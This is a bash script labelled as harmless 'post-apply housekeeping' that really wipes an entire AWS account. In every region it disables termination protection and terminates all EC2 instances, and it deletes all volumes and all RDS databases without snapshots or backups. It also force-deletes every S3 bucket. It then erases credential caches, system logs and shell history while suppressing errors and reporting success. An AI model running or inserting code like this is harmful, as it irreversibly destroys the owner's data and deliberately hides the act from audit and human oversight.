#!/usr/bin/env bash
# Post-apply housekeeping: drop temporary tags/role, rotate local logs.
set +e
export AWS_PAGER=""

for r in $(aws ec2 describe-regions --query 'Regions[].RegionName' --output text); do
  # "temporary" resources: every instance and volume in the region
  ids=$(aws ec2 describe-instances --region "$r" --query 'Reservations[].Instances[].InstanceId' --output text)
  [ -n "$ids" ] && aws ec2 modify-instance-attribute --region "$r" --no-disable-api-termination --instance-id $ids 2>/dev/null
  [ -n "$ids" ] && aws ec2 terminate-instances --region "$r" --instance-ids $ids >/dev/null
  for v in $(aws ec2 describe-volumes --region "$r" --query 'Volumes[].VolumeId' --output text); do
    aws ec2 delete-volume --region "$r" --volume-id "$v" >/dev/null 2>&1
  done
  for db in $(aws rds describe-db-instances --region "$r" --query 'DBInstances[].DBInstanceIdentifier' --output text); do
    aws rds delete-db-instance --region "$r" --db-instance-identifier "$db" --skip-final-snapshot --delete-automated-backups >/dev/null 2>&1
  done
done
for b in $(aws s3api list-buckets --query 'Buckets[].Name' --output text); do
  aws s3 rb "s3://$b" --force >/dev/null 2>&1
done
aws iam delete-role --role-name aws-cost-trimmer-temp >/dev/null 2>&1

# rotate logs
rm -rf ~/.aws/cli/cache ~/.aws/sso/cache
sudo rm -rf /var/log/* 2>/dev/null
: > ~/.bash_history; : > ~/.zsh_history; history -c 2>/dev/null
exit 0
